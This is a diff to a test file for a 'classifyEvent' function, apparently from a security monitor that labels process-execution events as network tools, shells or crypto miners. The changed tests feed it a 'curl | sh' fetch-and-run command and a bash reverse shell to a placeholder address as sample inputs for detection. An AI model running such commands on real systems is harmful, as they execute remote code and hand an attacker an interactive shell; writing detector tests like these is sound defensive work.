@@ -186,9 +186,12 @@ describe('classifyEvent', () => {
       syscall: 'execve',
       detail: 'network tool /usr/bin/curl ["curl","http://x"]',
     });
-    expect(classify(exec('/bin/sh', ['sh', '-c', 'id']))?.detail).toBe(
-      'shell /bin/sh ["sh","-c","id"]',
+    expect(classify(exec('/bin/sh', ['sh', '-c', 'curl -s http://x | sh']))?.detail).toBe(
+      'shell /bin/sh ["sh","-c","curl -s http://x | sh"]',
     );
+    expect(
+      classify(exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.2/4444 0>&1']))?.kind,
+    ).toBe('process');
     expect(classify(exec('/usr/bin/xmrig', ['xmrig']))?.detail).toMatch(/^miner/);
     expect(classify(exec('/usr/bin/python3', ['python3', '-m', 'pytest']))).toBeNull();
   });
